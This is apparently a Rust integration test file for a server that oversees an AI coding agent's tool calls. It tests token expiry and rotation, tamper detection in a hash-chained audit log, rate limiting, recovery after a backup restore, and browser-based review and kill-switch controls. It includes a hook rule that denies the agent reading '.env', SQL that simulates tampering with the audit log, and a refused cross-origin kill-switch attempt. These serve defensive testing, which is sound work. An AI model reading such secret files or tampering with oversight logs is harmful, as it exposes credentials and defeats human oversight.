    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Issue 17, M2: tokens expire, are listed with their last use (never shown again), are
/// revoked and rotated one at a time, and e-mail addresses are one person whatever
/// their case. Before: no expiry, no listing, revocation only per user and role-blind.
#[test]
fn tokens_expire_rotate_and_are_revoked_one_at_a_time() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let admin = server.admin();
    let laptop = server.token(" Bob@Example.COM", "reviewer");
    let (status, made) = server.client(&admin).post(
        "/api/v1/tokens",
        json!({"user": "bob@example.com", "role": "reviewer", "projects": ["billing"],
               "expires": "90d"}),
    );
    assert_eq!(status, 200, "{made}");
    let ci = made["token"].as_str().unwrap().to_string();
    assert_eq!(
        server.client(&laptop).get("/api/v1/whoami").1["email"],
        "bob@example.com"
    );
    assert_eq!(server.client(&ci).get("/api/v1/whoami").0, 200);
    // A developer token names its projects.
    let out = Command::new(server_bin())
        .args([
            "token",
            "create",
            "--user",
            "x@example.com",
            "--role",
            "developer",
        ])
        .args(["--database-url", &database.url()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(text(&out).contains("--project"), "{}", text(&out));

    // Bob lists his own tokens: ids, expiry and last use, never the tokens.
    let (_, listed) = server.client(&laptop).get("/api/v1/tokens");
    let listed = listed.as_array().unwrap().clone();
    assert_eq!(listed.len(), 2, "{listed:?}");
    assert!(listed.iter().all(|t| t["email"] == "bob@example.com"));
    assert!(
        listed.iter().all(|t| !t["last_used_at"].is_null()),
        "{listed:?}"
    );
    let ci_row = listed.iter().find(|t| t["id"] == made["id"]).unwrap();
    assert!(ci_row["expires_at"].as_str().unwrap() > "2026", "{ci_row}");
    assert!(!serde_json::to_string(&listed).unwrap().contains(&ci));
    let out = Command::new(server_bin())
        .args(["token", "list", "--user", "BOB@example.com"])
        .args(["--database-url", &database.url()])
        .output()
        .unwrap();
    assert!(
        text(&out).contains(made["id"].as_str().unwrap()),
        "{}",
        text(&out)
    );

    // Revoking one leaves the other.
    let (status, body) = server.client(&laptop).post(
        &format!("/api/v1/tokens/{}/revoke", made["id"].as_str().unwrap()),
        json!({}),
    );
    assert_eq!(status, 200, "{body}");
    assert_eq!(server.client(&ci).get("/api/v1/whoami").0, 401);
    assert_eq!(server.client(&laptop).get("/api/v1/whoami").0, 200);
    // Nobody else revokes bob's token.
    let carol = server.token("carol@example.com", "developer");
    let laptop_id = listed.iter().find(|t| t["id"] != made["id"]).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (status, _) = server
        .client(&carol)
        .post(&format!("/api/v1/tokens/{laptop_id}/revoke"), json!({}));
    assert_eq!(status, 403);
    // Rotation: the old token stops, the new one carries the same scope.
    let (status, rotated) = server.client(&laptop).post(
        &format!("/api/v1/tokens/{laptop_id}/rotate"),
        json!({"expires": "30d"}),
    );
    assert_eq!(status, 200, "{rotated}");
    let fresh = rotated["token"].as_str().unwrap();
    assert_eq!(server.client(&laptop).get("/api/v1/whoami").0, 401);
    let (status, who) = server.client(fresh).get("/api/v1/whoami");
    assert_eq!((status, who["projects"].clone()), (200, json!("billing")));

    // An expired token no longer signs in.
    let short = server.token_with(
        "dave@example.com",
        "developer",
        &["--project", "billing", "--expires", "1h"],
    );
    assert_eq!(server.client(&short).get("/api/v1/whoami").0, 200);
    sqlite(
        &database,
        "UPDATE tokens SET expires_at = '2020-01-01T00:00:00.000000Z' WHERE email = 'dave@example.com'",
    );
    assert_eq!(server.client(&short).get("/api/v1/whoami").0, 401);
}

/// Issue 17, M3: before, the server wrote nothing about who did what. Now every
/// administrative and security action lands in a hash-chained log that admins read,
/// export and verify; changing or removing a line is found.
#[test]
fn the_audit_log_records_administrative_actions_and_shows_tampering() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let admin = server.admin();
    let sec = server.token("sec@example.com", "security");
    let bob = server.token("bob@example.com", "reviewer");
    let (status, _) = server.client(&sec).post(
        "/api/v1/killswitch",
        json!({"action": "disable", "target": "jira", "reason": "incident 7"}),
    );
    assert_eq!(status, 200);
    let (status, _) = server.client(&sec).post(
        "/api/v1/registry",
        json!({"name": "jira", "owner": "it@example.com", "purpose": "tickets",
               "data": "tickets", "access": "read"}),
    );
    assert_eq!(status, 200);
    let answer = form_post(
        server.port,
        "/login",
        &format!("Origin: http://127.0.0.1:{}\r\n", server.port),
        "token=mdt_wrong",
    );
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");

    assert_eq!(server.client(&bob).get("/api/v1/audit").0, 403);
    let (status, log) = server.client(&admin).get("/api/v1/audit");
    assert_eq!(status, 200, "{log}");
    let actions: Vec<(String, String)> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_string(),
                e["actor"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (action, actor) in [
        ("token.create", "console:"),
        ("policy.push", "root@example.com"),
        ("killswitch.disable", "sec@example.com"),
        ("registry.set", "sec@example.com"),
        ("signin.failed", "(anonymous)"),
    ] {
        assert!(
            actions
                .iter()
                .any(|(a, who)| a == action && who.starts_with(actor)),
            "{action} by {actor} is not in {actions:?}"
        );
    }
    let export = server
        .client(&admin)
        .0
        .request("GET", "/api/v1/audit/export", None, Duration::from_secs(20))
        .unwrap();
    assert_eq!(export.status, 200);
    let lines = String::from_utf8(export.body.clone()).unwrap();
    assert!(lines.lines().count() >= actions.len(), "{lines}");
    let (_, check) = server.client(&admin).get("/api/v1/audit/verify");
    assert_eq!(check["ok"], true, "{check}");

    // Someone with the database rewrites what security did, then removes a line.
    sqlite(
        &database,
        "UPDATE audit SET line = replace(line, 'incident 7', 'routine') \
         WHERE action = 'killswitch.disable'",
    );
    let (_, check) = server.client(&admin).get("/api/v1/audit/verify");
    assert_eq!(check["ok"], false, "{check}");
    assert!(check["problems"].to_string().contains("changed"), "{check}");
    let out = Command::new(server_bin())
        .args(["audit", "verify", "--database-url", &database.url()])
        .output()
        .unwrap();
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("BROKEN"), "{}", text(&out));
    sqlite(
        &database,
        "UPDATE audit SET line = replace(line, 'routine', 'incident 7') \
         WHERE action = 'killswitch.disable'",
    );
    assert_eq!(
        server.client(&admin).get("/api/v1/audit/verify").1["ok"],
        true
    );
    sqlite(&database, "DELETE FROM audit WHERE action = 'registry.set'");
    let (_, check) = server.client(&admin).get("/api/v1/audit/verify");
    assert_eq!(check["ok"], false, "{check}");
}

/// Issue 17, item 6: one token cannot hold the server: past its rate (here 1 a second,
/// bursts of 10) it is told to wait, while another token is served.
#[test]
fn a_token_past_its_rate_is_told_to_wait() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start_with(&database.url(), free_port(), &["--rate-limit", "1"]);
    let bob = server.token("bob@example.com", "reviewer");
    let sec = server.token("sec@example.com", "security");
    let answers: Vec<_> = (0..30)
        .map(|_| {
            server
                .client(&bob)
                .0
                .request("GET", "/api/v1/killswitch", None, Duration::from_secs(20))
                .unwrap()
        })
        .collect();
    assert_eq!(answers[0].status, 200);
    let refused = answers
        .iter()
        .find(|a| a.status == 429)
        .unwrap_or_else(|| panic!("30 requests in a row were all served"));
    assert!(refused.error().contains("wait"), "{}", refused.error());
    assert_eq!(server.client(&sec).get("/api/v1/killswitch").0, 200);
}

/// Issue 17, M5: the server is restored from last night's backup and has lost what came
/// after. Before: `mandate push` trusted its own cursor and sent nothing, three times
/// over, and the run stayed open and unsealed on the server. Now a push first checks
/// what the server holds and sends the rest again.
#[test]
fn a_server_restored_from_a_backup_gets_what_it_lost_again() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let mut server = ServerProcess::start(&database);
    let alice = server.token("alice@example.com", "developer");
    let repo = Repo::new("", &alice);
    let push = |url: &str| {
        let out = repo.mandate(&["push", "--server", url]);
        assert!(out.status.success(), "{}", text(&out));
    };
    assert_eq!(repo.read("t1").0, "allow");
    push(&server.url);
    let run_id = repo.run_id();
    let backup = dir.path().join("backup.db");
    sqlite(&database, &format!(".backup '{}'", backup.display()));
    for i in 0..5 {
        assert_eq!(repo.read(&format!("u{i}")).0, "allow");
    }
    assert!(repo.mandate(&["finish"]).status.success());
    push(&server.url);
    let held = |server: &ServerProcess| {
        let (_, run) = server.client(&alice).get(&format!("/api/v1/runs/{run_id}"));
        (run["run"]["entries"].clone(), run["run"]["sealed"].clone())
    };
    let all = json!(repo.local_entries());
    assert_eq!(held(&server), (all.clone(), all.clone()));

    // Restore: the server now holds what it held at the backup.
    server.stop();
    let Database::Sqlite(path) = &database else {
        unreachable!()
    };
    for suffix in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", path.display()));
    }
    std::fs::copy(&backup, path).unwrap();
    server.restart();
    let (entries, sealed) = held(&server);
    assert!(
        entries.as_u64().unwrap() < all.as_u64().unwrap(),
        "{entries}"
    );
    assert_eq!(sealed, json!(0));

    push(&server.url);
    assert_eq!(
        held(&server),
        (all.clone(), all),
        "the server did not converge"
    );
    let (_, report) = server
        .client(&alice)
        .get(&format!("/api/v1/runs/{run_id}/verify"));
    assert_eq!(report["ok"], true, "{report}");
}

// ---------------------------------------------------------------------------------
// The browser

/// Chromium and node drive the pages: sign in, open a run, record a review, approve a
/// pending call (seeing its diff), disable a tool, and see the next hook call refused; a
/// page on another origin of the same host tries to pull the kill switch with the
/// security engineer's session and is refused (issue 17, M1).
#[test]
fn browser_sign_in_review_approve_and_disable() {
    let Some(browser) = Browser::ready() else {
        return;
    };

    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let alice = server.token("alice@example.com", "developer");
    let bob = server.token("bob@example.com", "reviewer");
    let sec = server.token("sec@example.com", "security");
    let repo = Repo::new(&server.url, &alice);
    assert_eq!(repo.read("t1").0, "allow");
    assert_eq!(
        repo.pre("t2", "Read", json!({"file_path": ".env"})).0,
        "deny"
    );
    let write = json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"});
    assert_eq!(repo.pre("t3", "Write", write.clone()).0, "deny");
    assert_eq!(
        repo.pre("t4", "mcp__jira__get_issue", json!({"issue": "BILL-142"}))
            .0,
        "allow"
    );
    assert!(repo.push().status.success());
    let run_id = repo.run_id();

    let out = browser
        .script("walk.mjs", dir.path())
        .env("BASE_URL", &server.url)
        .env("RUN_ID", &run_id)
        .env("BOB_TOKEN", &bob)
        .env("SEC_TOKEN", &sec)
        .env("ADMIN_TOKEN", server.admin())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the browser walk failed:\n{}",
        text(&out)
    );

    // What the browser did is what the server and the hook now know.
    let (_, run) = server.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(run["reviews"][0]["decision"], "approve");
    assert_eq!(run["reviews"][0]["reviewer"], "bob@example.com");
    let (decision, reason) = repo.pre("t5", "Write", write);
    assert_eq!(decision, "allow", "approved in the browser: {reason}");
    let (decision, reason) = repo.pre("t6", "mcp__jira__get_issue", json!({"issue": "BILL-142"}));
    assert_eq!(decision, "deny", "disabled in the browser: {reason}");
    assert!(reason.contains("kill switch"), "{reason}");
    // The attacker's page pulled nothing.
    let (_, killed) = server.client(&sec).get("/api/v1/killswitch");
    let targets: Vec<&str> = killed
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        ["jira/get_issue"],
        "a cross-origin request got through"
    );
}
